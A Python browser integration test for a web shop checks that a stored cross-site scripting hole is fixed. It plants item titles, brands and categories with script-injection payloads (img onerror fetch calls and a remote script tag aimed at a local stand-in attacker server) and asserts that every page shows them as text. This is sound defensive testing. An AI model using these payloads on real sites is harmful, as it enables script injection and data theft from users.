"""Issue 13, finding 3, in a real browser: a catalogue item whose title, brand and category hold
markup that would load a script from an attacker's server (a real HTTP server on loopback that
records every request) and open a dialog. Debian's Chromium opens every page — storefront,
analytics (the live funnel explorer and the built report), operations — through the real service.
The markup must show as text; no element it describes may exist; no dialog; no request to the
attacker. On the old code the funnel explorer put the brand into ``innerHTML`` and Chromium ran it."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from shelfwise.api.app import create_app
from tests.integration.api_fixtures import API_KEY, KNOWN_USER, Served
from tests.live import chromium_page, free_port, live_server, screenshot

ITEM = "85123A"  # WHITE HANGING HEART T-LIGHT HOLDER: the slice's best seller, on every page


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A server on 127.0.0.1 standing in for the attacker's: it answers every request with a script
    and records the path, so any request the pages make to it is seen."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = b"alert('attacker script ran')"
            self.send_response(200)
            self.send_header("content-type", "text/javascript")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()


def test_finding_3_a_script_in_the_catalogue_shows_as_text_on_every_page(
    served: Served,
    attacker: tuple[str, list[str]],
) -> None:
    evil, hits = attacker
    title = f"Zebrafish heart holder <img src=x onerror=\"fetch('{evil}/title')\">"
    brand = f"<img src=x onerror=\"alert(1);fetch('{evil}/brand')\">"
    category = f'<script src="{evil}/category.js"></script>'
    settings = served.settings(rate_limit_per_second=0, dashboard_on_start=False)
    app = create_app(settings, served.url, watch_interval=None)
    admin = {"X-API-Key": API_KEY}
    with live_server(app) as base, chromium_page() as page:
        put = httpx.put(
            f"{base}/v1/items/{ITEM}",
            headers=admin,
            json={"title": title, "brand": brand, "category": category, "price": 2.55},
        )
        assert put.status_code == 200, put.text
        assert put.json()["brand"] == brand  # stored as sent: the pages must escape it
        # the full report, built from the store that now holds the item
        assert httpx.post(f"{base}/analytics/api/rebuild", headers=admin).status_code == 202
        deadline = time.monotonic() + 300
        while httpx.get(f"{base}/analytics/api/report", headers=admin).json()["status"] == "building":
            assert time.monotonic() < deadline, "the report did not build in 5 minutes"
            time.sleep(1)
        assert httpx.get(f"{base}/analytics/api/report", headers=admin).json()["status"] == "ready"

        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        requested: list[str] = []
        page.on("request", lambda r: requested.append(r.url))

        def no_markup_ran(where: str) -> None:
            page.wait_for_timeout(300)  # a chance for anything injected to load or fire
            injected = page.locator(f"img[src='x'], script[src^='{evil}'], img[src^='{evil}']").count()
            assert injected == 0, f"{where}: the catalogue's markup became elements"
            assert not dialogs, f"{where}: a dialog opened: {dialogs}"
            assert not [u for u in requested if u.startswith(evil)], f"{where}: a request to the attacker"

        # storefront: search results (title, brand, category in each card)
        page.goto(f"{base}/search?q=zebrafish")
        card = page.locator(f"#results .item[data-item='{ITEM}']")
        card.wait_for()
        assert title in card.locator("a").text_content()
        assert brand in card.locator(".meta").text_content()
        assert category in card.locator(".meta").text_content()
        no_markup_ran("search")
        # the brand facet lists the brand as text, and filtering by it works
        page.locator("#facets a.facet", has_text="onerror").first.click()
        page.wait_for_selector("#active-filters")
        assert brand in page.text_content("#active-filters")
        no_markup_ran("search facets")

        # the product page, and the item in other items' lists
        page.goto(f"{base}/p/{ITEM}")
        page.wait_for_function("t => document.getElementById('title').textContent === t", arg=title)
        assert brand in page.text_content("#details")
        page.click("#add-to-cart")
        no_markup_ran("product")
        page.goto(f"{base}/cart")
        page.wait_for_selector("#bundle .item, #bundle-meta:has-text('error')")
        no_markup_ran("cart")
        page.goto(f"{base}/?user={KNOWN_USER}")
        page.wait_for_selector("#recs .item")
        no_markup_ran("home")
        screenshot(page, "xss-storefront")

        # analytics: the sign-in page, then the live funnel explorer and the built report
        page.goto(f"{base}/analytics/")
        page.fill("#key", API_KEY)
        page.click("#sign-in")
        page.wait_for_url(f"{base}/analytics/")
        for by, text in (("brand", brand), ("category", category)):
            page.select_option("#funnel-by", by)
            page.wait_for_selector(f"#funnel-chart[src*='by={by}']")  # set once the table is drawn
            no_markup_ran(f"funnel explorer by {by}")
            assert text in page.locator("#funnel-table td").all_text_contents()
        report = page.text_content("#report")
        assert brand[:60] in report or category[:60] in report  # the report's tables cut cells at 60
        no_markup_ran("analytics report")
        screenshot(page, "xss-analytics")

        # operations
        page.goto(f"{base}/ops")
        page.wait_for_selector("#versions tr[data-version]")
        no_markup_ran("operations")
    assert hits == [], f"the attacker's server was reached: {hits}"
